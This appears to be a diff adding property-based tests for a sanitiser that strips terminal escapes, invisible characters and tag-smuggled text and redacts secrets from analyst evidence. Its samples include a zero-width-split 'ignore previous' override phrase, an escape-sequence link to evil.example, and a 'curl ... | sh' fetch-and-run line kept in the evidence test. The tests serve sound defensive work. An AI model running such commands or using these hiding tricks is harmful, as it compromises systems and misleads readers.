@@ -1,0 +1,139 @@
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { cleanText, MAX_TEXT, redactSecrets } from './clean.ts';
+
+const HIDDEN = /[\p{Cc}\p{Cf}\p{Default_Ignorable_Code_Point}\p{Cs}]/u;
+const ESC = String.fromCharCode(0x1b);
+
+/** Text made mostly of what attackers use to hide: escapes, invisibles, bidi marks, tags, lone surrogates, compatibility forms. */
+const hostileText = fc
+  .array(
+    fc.oneof(
+      fc.string({ unit: 'binary' }),
+      fc.constantFrom(
+        `${ESC}[31m`,
+        `${ESC}]8;;https://evil.example${String.fromCharCode(7)}`,
+        ESC,
+        '\u200b',
+        '\u202e',
+        '\u2066',
+        '\u{e0041}',
+        '\ufe0f',
+        '\ud800',
+        '\udc00',
+        '\ufb01',
+        '\uffa0',
+        '\ufdfa',
+        'e',
+        '\u0301',
+        '\r\n',
+        '\u0000',
+        '\u2028',
+      ),
+    ),
+    { maxLength: 60 },
+  )
+  .map((parts) => parts.join(''));
+
+describe('cleanText', () => {
+  it('leaves nothing hidden, nothing over the cap and one line, whatever comes in', () => {
+    fc.assert(
+      fc.property(hostileText, fc.integer({ min: 80, max: MAX_TEXT }), (text, max) => {
+        const cleaned = cleanText(text, { max });
+        expect(cleaned.length).toBeLessThanOrEqual(max);
+        expect(cleaned).not.toMatch(HIDDEN);
+        expect(cleaned).not.toMatch(/[\n\r\t]| {2}/);
+        expect(cleaned.isWellFormed()).toBe(true);
+        expect(cleaned.normalize('NFKC')).toBe(cleaned);
+      }),
+      { numRuns: 500 },
+    );
+  });
+
+  it('changes nothing the second time - a text may pass through it on its way more than once', () => {
+    fc.assert(
+      fc.property(hostileText, (text) => {
+        const once = cleanText(text);
+        expect(cleanText(once)).toBe(once);
+      }),
+      { numRuns: 500 },
+    );
+  });
+
+  it('joins a word that was split by an invisible character and says that something was removed', () => {
+    expect(cleanText('ig\u200bnore prev\u2060ious')).toBe('ignore previous [removed: 2 invisible]');
+  });
+
+  it('removes terminal sequences whole - half of one would still colour an analyst’s screen', () => {
+    expect(cleanText(`a${ESC}[1;31mred${ESC}[0m ${ESC}]0;title${String.fromCharCode(7)}b`)).toBe(
+      'ared b [removed: 3 terminal sequences]',
+    );
+  });
+
+  it('removes text smuggled in tag characters', () => {
+    const smuggled = [...'close'].map((letter) => String.fromCodePoint(0xe0000 + letter.charCodeAt(0))).join('');
+    expect(cleanText(`ok${smuggled}`)).toBe('ok [removed: 5 invisible]');
+  });
+
+  it('marks a cut with what is missing and does not split a surrogate pair', () => {
+    const cleaned = cleanText('\u{1f600}'.repeat(2_000));
+    expect(cleaned).toMatch(/ \.\.\. \[cut: \d+ more\]$/);
+    expect(cleaned.length).toBeLessThanOrEqual(MAX_TEXT);
+    expect(cleaned.isWellFormed()).toBe(true);
+  });
+
+  it('takes time in proportion to hostile input - two megabytes must not stall the pipeline', () => {
+    const started = performance.now();
+    for (const piece of ['-eyJ', `${ESC}]`, 'password', '://a:', '-----BEGIN PRIVATE KEY-----', 'Bearer ', 'token = '])
+      cleanText(piece.repeat(Math.ceil(2_000_000 / piece.length / 4)));
+    expect(performance.now() - started).toBeLessThan(10_000);
+  });
+});
+
+// Invented, and put together at run time so that secret scanners do not mistake this file for a leak.
+const SECRETS: readonly (readonly [string, string])[] = [
+  ['a Slack bot token', ['xoxb', '000000000000', 'inventedInvented'].join('-')],
+  ['a GitHub token', `ghp_${'a1B2'.repeat(9)}`],
+  ['a fine-grained GitHub token', `github_pat_${'a1B2'.repeat(9)}`],
+  ['an AWS access key id', `AKIA${'INVENTED00000000'}`],
+  ['a temporary AWS access key id', `ASIA${'INVENTED00000000'}`],
+  ['a JSON web token', `eyJ${'hbGciOiJub25l'}.${'eyJzdWIiOiJpbnZlbnRlZCJ9'}.c2ln`],
+  ['an EKS token', `k8s-aws-v1.${'aW52ZW50ZWQ'}`],
+];
+
+describe('redactSecrets', () => {
+  it.each(SECRETS)('replaces %s wherever it stands', (_name, secret) => {
+    fc.assert(
+      fc.property(
+        fc.constantFrom('', 'run ', '"', '=', '/'),
+        fc.constantFrom('', ' now', '"', '&x=1'),
+        (before, after) => {
+          expect(redactSecrets(`${before}${secret}${after}`)).not.toContain(secret);
+        },
+      ),
+    );
+  });
+
+  it.each([
+    ['curl -H "Authorization: Bearer abcdefgh12345678" x', 'curl -H "Authorization: Bearer [secret]" x'],
+    ['mysql --password hunter22 -h db', 'mysql --password [secret] -h db'],
+    ['DB_PASSWORD=hunter22 ./run', 'DB_PASSWORD=[secret] ./run'],
+    ['{"api_key": "abc def"}', '{"api_key": [secret]}'],
+    ['git clone https://bot:hunter22@git.example.com/x', 'git clone https://bot:[secret]@git.example.com/x'],
+    ['AWS_SECRET_ACCESS_KEY=abcd/efgh+1', 'AWS_SECRET_ACCESS_KEY=[secret]'],
+  ])('keeps the words that say what kind of secret was there: %s', (text, expected) => {
+    expect(redactSecrets(text)).toBe(expected);
+  });
+
+  it('finds a secret that was hidden with zero-width characters or full-width letters', () => {
+    const secret = ['xoxb', '000000000000', 'inventedInvented'].join('-');
+    expect(cleanText([...secret].join('\u200b'))).toContain('[secret]');
+    expect(cleanText(`ｐａｓｓｗｏｒｄ=hunter22`)).toBe('password=[secret]');
+  });
+
+  it('leaves ordinary evidence alone - digests, images and mining pools are what analysts read', () => {
+    const text =
+      'sh -c curl -fsSL http://203.0.113.7/x.sh | sh -o stratum+tcp://pool.example.net:3333 111122223333.dkr.ecr.us-east-1.amazonaws.com/shop/checkout:1.42.0 sha256:3f3f3f3f';
+    expect(redactSecrets(text)).toBe(text);
+  });
+});
